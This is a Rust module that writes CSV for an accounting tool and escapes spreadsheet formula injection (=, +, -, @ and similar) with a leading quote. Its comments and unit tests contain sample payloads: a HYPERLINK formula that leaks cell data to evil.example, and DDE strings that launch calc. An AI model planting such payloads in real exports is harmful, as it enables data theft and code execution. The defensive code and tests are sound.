//! CSV as kassa writes it, for every CSV it writes (`kassa export --format
//! csv`, `-o csv` listings): one writer whose every cell goes through
//! [`csv_cell`], so text from a bank file or a form cannot become a
//! spreadsheet formula.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
//! (or the full-width `＝`, `＋`, `－`, `＠`, which spreadsheets read the same)
//! is run as a formula by Excel, LibreOffice and Google Sheets:
//! `=HYPERLINK(…)` leaks data, `+cmd|' /C calc'!A0` runs a program (DDE).
//! Following OWASP's advice such a cell gets a leading `'`, which the
//! spreadsheet shows as text and does not display. A plain number keeps its
//! sign: `-12.50` is an amount and must stay a number.

use std::borrow::Cow;
use std::io::Write;

use serde_json::Value;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// `text` as a CSV cell that no spreadsheet runs: prefixed with `'` when
/// it starts like a formula, unless it is a plain decimal number.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(c) if FORMULA_START.contains(&c) && !is_plain_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// `-12.50`, `+3`, `-0.5`: a sign, digits, at most one point with digits
/// around it. Nothing a spreadsheet could evaluate beyond the number.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (int, frac) = digits.split_once('.').map_or((digits, None), |(i, f)| (i, Some(f)));
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(int) && frac.is_none_or(all_digits)
}

/// The text of a JSON value as one CSV cell: null is empty, a list is
/// joined with ", ", strings are as they are, anything else as JSON.
pub fn value_text(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(a) => a.iter().map(value_text).collect::<Vec<_>>().join(", "),
        other => other.to_string(),
    }
}

/// A CSV writer whose cells are all escaped by [`csv_cell`]: the one way
/// kassa writes CSV.
#[allow(missing_debug_implementations)]
pub struct CsvWriter<W: Write> {
    out: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> CsvWriter<W> {
        CsvWriter { out: csv::Writer::from_writer(out) }
    }

    /// One record, each cell escaped.
    pub fn record<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> csv::Result<()> {
        self.out.write_record(cells.into_iter().map(|c| csv_cell(c.as_ref()).into_owned()))
    }

    /// The fields `columns` of a JSON object, in that order (a missing one
    /// is empty), as one record.
    pub fn values<S: AsRef<str>>(&mut self, row: &Value, columns: &[S]) -> csv::Result<()> {
        self.record(columns.iter().map(|c| row.get(c.as_ref()).map(value_text).unwrap_or_default()))
    }

    /// Flushes and hands back the output.
    pub fn into_inner(self) -> csv::Result<W> {
        self.out.into_inner().map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("＝1+1", "'＝1+1"),
            ("-", "'-"),
            ("-12.5e3", "'-12.5e3"),
            ("-.5", "'-.5"),
            ("-12.50", "-12.50"),
            ("+3", "+3"),
            ("-0.001", "-0.001"),
            ("12.50", "12.50"),
            ("REWE 1=1", "REWE 1=1"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn values_are_written_in_the_given_order_escaped() {
        let mut w = CsvWriter::new(vec![]);
        let columns = ["description", "amount", "tags", "note", "minor"];
        w.record(columns).expect("header");
        let row = serde_json::json!({"amount": "-12.50", "description": "=1+1", "minor": -1250, "tags": ["a", "@b"]});
        w.values(&row, &columns).expect("row");
        let text = String::from_utf8(w.into_inner().expect("flush")).expect("utf-8");
        assert_eq!(text, "description,amount,tags,note,minor\n'=1+1,-12.50,\"a, @b\",,-1250\n");
    }
}
